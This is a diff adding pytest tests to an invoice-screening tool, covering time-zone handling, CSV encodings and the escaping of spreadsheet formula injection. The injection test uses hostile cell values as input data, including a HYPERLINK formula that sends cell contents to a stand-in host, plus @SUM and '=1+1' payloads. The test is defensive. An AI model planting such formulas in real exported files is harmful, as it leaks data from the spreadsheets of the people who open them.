@@ -88,6 +88,38 @@ def test_no_reason_speaks_of_what_the_folder_does_not_say(folder):
     assert not any("Months since registration:" in text for text in told)
 
 
+@pytest.mark.parametrize("zone", ["Asia/Shanghai", "UTC"])
+def test_instants_are_days_of_shanghai(folder, zone):
+    path = folder(HONEST)
+    plain = read_invoice_folder(path)
+    for name in INVOICE_FILES.values():
+        instants = pl.col("date").dt.month_start().dt.replace_time_zone("Asia/Shanghai").dt.convert_time_zone(zone)
+        pl.read_parquet(path / name).with_columns(instants).write_parquet(path / name)
+    months = read_invoice_folder(path).invoices["issued_on"].dt.month_start()
+    assert months.equals(plain.invoices["issued_on"].dt.month_start())
+    assert screened(read_invoice_folder(path)).frame["sales_months"].to_list() == [30, 14, 0]
+
+
+def test_no_name_is_a_formula_in_what_is_written(folder, run, tmp_path):
+    path = folder([*HONEST, {**HONEST[0], "status": "=1+1"}])
+    (path / FIRMS_FILE).write_text('firm,name\nE1,"=HYPERLINK(""http://x/?""&A1)"\nE2,@SUM(1)|甲\nE3,＝1\n')
+    done = run(path, "firms.csv", AS_OF, "--rejects", str(tmp_path / "left_out.csv"))
+    assert done.exit_code == 0, done.output
+    names = pl.read_csv(tmp_path / "firms.csv")["name"].to_list()
+    assert names == ['\'=HYPERLINK("http://x/?"&A1)', "'@SUM(1)|甲", "'＝1"]
+    assert pl.read_csv(tmp_path / "firms.csv")["pd_12m"].dtype == pl.Float64
+    assert pl.read_csv(tmp_path / "left_out.csv")["value"].to_list() == ["'=1+1", "'=1+1"]
+
+
+@pytest.mark.parametrize("encoding", ["gb18030", "utf-16", "utf-8-sig"])
+def test_the_list_of_firms_is_read_as_spreadsheets_write_it(folder, encoding):
+    path = folder(HONEST)
+    (path / FIRMS_FILE).write_bytes("firm,name\rE1,甲公司\rE2,乙公司,\rE3,丙\0\r".encode(encoding))
+    read = read_invoice_folder(path)
+    assert read.firms.rows() == [("E1", "甲公司")]
+    assert read.rejects.filter(pl.col("file") == FIRMS_FILE)["row", "field"].rows() == [(1, "line"), (2, "name")]
+
+
 def screened(read, day=AS_OF):
     live = load_live(load_settings())
     return screen_invoices(read, day, live=live, book=book())
